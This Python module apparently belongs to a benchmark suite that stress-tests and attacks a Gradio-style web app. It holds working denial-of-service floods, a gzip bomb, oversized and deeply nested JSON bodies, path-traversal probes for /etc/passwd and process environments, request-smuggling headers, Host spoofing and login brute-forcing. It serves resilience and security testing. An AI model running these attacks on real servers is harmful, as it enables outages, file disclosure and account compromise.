"""Attacks with single requests: large ones, many, and such as no page sends."""

from __future__ import annotations

import asyncio
import gzip
import json
from collections import Counter
from itertools import cycle
from typing import Any

from benchmarks.attacks.target import Target, all_at_once, at_once

_CLOSED = (
    "/pwa_icon/20000",
    *("/gradio_api/file=/etc/passwd", "/gradio_api/file=..%2f..%2fetc%2fpasswd", "/gradio_api/file=//etc/passwd"),
    *("/gradio_api/file=demo.py", "/gradio_api/file=./.git/config", "/gradio_api/file=/proc/self/environ"),
    *("/static/..%2f..%2f..%2fetc%2fpasswd", "/assets/%2e%2e/%2e%2e/etc/passwd", "/svelte/../../../etc/passwd"),
    *("/gradio_api/proxy=http://127.0.0.1:1/", "/gradio_api/stream/a/1/2/playlist-file", "/monitoring", "/docs"),
    *("/gradio_api/deep_link?session_hash=a", "/gradio_api/custom_component/x/y/z/..%2f..%2fetc%2fpasswd"),
    *("/v1/models/..%2f..%2fetc%2fpasswd", "/v1/models/%00", "/v1/models/" + "x" * 3000, "/gradio_api/vibe-code"),
)


def large_bodies(target: Target) -> object:
    """JSON of 100 MiB, of numbers, of brackets and of 4 MiB, to every address that takes some"""
    bodies = [
        b'{"data":["' + b"x" * (100 << 20) + b'"],"session_hash":"big","fn_index":0}',
        b'{"data":[' + b"1," * (2 << 20) + b'1],"session_hash":"big","fn_index":0}',
        b'{"data":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"data":["' + b"\\u0041" * 600_000 + b'"],"session_hash":"big","fn_index":0}',
        b'{"data":[' + b"1" * 3_000_000 + b'],"session_hash":"big","fn_index":0}',
    ]
    paths = ("queue/join", "run/predict", "call/chat", "cancel")
    addresses = [f"/gradio_api/{path}" for path in paths] + ["/v1/chat/completions", "/login"]
    browser, is_time = target.browser(), target.until_end()
    target.begin()

    def send(index: int) -> dict[int, int]:
        statuses: Counter[int] = Counter()
        for number in cycle(range(index, index + len(bodies) * len(addresses))):
            if not is_time():
                break
            address, body = addresses[number % len(addresses)], bodies[number % len(bodies)]
            headers = {"content-type": "application/json"}
            statuses[browser.client.post(address, content=body, headers=headers).status_code] += 1
        return dict(statuses)

    return at_once(4, send)


def bodies_of_programs(target: Target) -> object:
    """/chat: histories of almost 4 MiB, one after the other, from 8 connections"""
    turn = {"role": "user", "content": "y" * 400}
    body = json.dumps({"data": [None, "x", [turn, {**turn, "role": "assistant"}] * 4000, 0, 1, 5, 1, 0]}).encode()
    client, is_time = target.client(), target.until_end()
    target.begin()

    def send(_: int) -> dict[int, int]:
        statuses: Counter[int] = Counter()
        headers = {"content-type": "application/json"}
        while is_time():
            statuses[client.post("/gradio_api/call/chat", content=body, headers=headers).status_code] += 1
        return dict(statuses)

    return at_once(8, send)


def hostile_values(target: Target) -> object:
    """Values that no listener expects, to all of them; and files that are not the visitor's"""
    file = {"_type": "gradio.FileData"}
    values: list[Any] = [None, 5, "x", [[]], {}, {"text": 5, "files": "x"}, "\0", "1" * 5000, [None] * 500]
    values += [{"text": "", "files": [{"path": path, "meta": file}]} for path in ("/etc/passwd", "demo.py", "http://a")]
    browser, is_time = target.browser(), target.until_end()
    target.begin()
    statuses: Counter[int] = Counter()
    for value in cycle(values):
        for index in target.page.listeners.values():
            for number in (1, 2, 9):
                body = {"data": [value] * number, "session_hash": browser.session, "fn_index": index}
                body["event_data"] = {"index": value, "key": value, "box": value}
                statuses[browser.client.post("/gradio_api/run/predict", json=body).status_code] += 1
        if not is_time():
            return statuses
    return statuses


def closed_addresses(target: Target) -> object:
    """Files, private functions and paths that are closed, with forged headers and ranges"""
    client, is_time = target.client(), target.until_end()
    target.begin()
    found: Counter[str] = Counter()
    ranges = "bytes=" + ",".join(f"{number}-{number}" for number in range(600))
    while is_time():
        for path in _CLOSED:
            answer = client.get(path, headers={"x-forwarded-for": f"9.9.9.{len(found)}", "x-forwarded-host": "a.b"})
            found[f"{answer.status_code}"] += 1
            found["root:" if "root:x" in answer.text else "nothing"] += 1
        for name in ("ask", "reset", "attach", "undo"):
            for way in ("run", "api", "call", "call/v2"):
                found[str(client.post(f"/gradio_api/{way}/{name}", json={"data": []}).status_code)] += 1
        for host in ("evil.example", "xn--a", "[::1", "localhost@evil.example", "a" * 3000):
            found[f"host {client.get('/config', headers={'host': host}).status_code}"] += 1
        for path in ("/favicon.ico", "/theme.css", "/"):
            found[f"range {client.get(path, headers={'range': ranges}).status_code}"] += 1
    return found


def odd_requests(target: Target) -> object:
    """Ten thousand headers, gzip, websockets, methods and lengths that are none"""
    bomb = gzip.compress(b'{"data":["' + b"x" * (100 << 20) + b'"]}')
    post = "POST /gradio_api/queue/join"
    requests = [
        target.head("GET /", *[f"x-{number}: 1" for number in range(10_000)]),
        target.head("GET /", "x: " + "y" * 1_000_000),
        target.head("GET /" + "x" * 1_000_000),
        target.head("GET /", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"),
        target.head(post, "Content-Encoding: gzip", f"Content-Length: {len(bomb)}") + bomb,
        target.head(post, "Content-Length: 5", "Content-Length: 6") + b"{}{}{}",
        target.head(post, "Content-Length: -1") + b"{}",
        target.head(post, "Transfer-Encoding: chunked", "Content-Length: 3") + b"fffffffff\r\n{}",
        target.head("BREW /"),
        target.head("GET /\xff\x00"),
        b"\x16\x03\x01" + bytes(500),
        b"GET / HTTP/0.9\r\n\r\n" * 50,
    ]
    is_time = target.until_end()
    target.begin()

    async def send(index: int) -> str:
        count = 0
        while is_time():
            reader, writer = await target.opened()
            try:
                writer.write(requests[index % len(requests)])
                await writer.drain()
                await asyncio.wait_for(reader.read(100), 5)
                count += 1
            except (OSError, TimeoutError):
                pass
            finally:
                writer.close()
        return "sent" if count else "never sent"

    return all_at_once(24, send)


def page_flood(target: Target) -> object:
    """The page, its config and the list of functions, asked for from 60 connections without a pause"""
    return _flood(target, [target.head(f"GET {path}") for path in ("/", "/config", "/gradio_api/info")], 60)


def refused_flood(target: Target) -> object:
    """What is refused at once, in pipelines of 50, from 60 connections without a pause"""
    return _flood(target, [target.head("GET /nothing") * 50, target.head("GET /", "Origin: https://evil") * 50], 60)


def login_flood(target: Target) -> object:
    """Passwords and keys, guessed from 20 connections without a pause"""
    form = b"username=me&password=guess"
    login = target.head(
        "POST /login", "Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(form)}"
    )
    return _flood(target, [login + form, target.head("GET /v1/models", "Authorization: Bearer guess")], 20)


def _flood(target: Target, requests: list[bytes], connections: int) -> object:
    is_time = target.until_end()
    target.begin()

    async def send(index: int) -> str:
        answered = 0
        while is_time():
            try:
                reader, writer = await target.opened()
                while is_time():
                    writer.write(requests[index % len(requests)])
                    await asyncio.wait_for(reader.read(1 << 20), 5)
                    answered += 1
            except (OSError, TimeoutError):
                await asyncio.sleep(0.01)
        return f"{answered // 100 * 100} and more reads"

    return all_at_once(connections, send)


ATTACKS = (
    large_bodies,
    bodies_of_programs,
    hostile_values,
    closed_addresses,
    odd_requests,
    page_flood,
    refused_flood,
    login_flood,
)
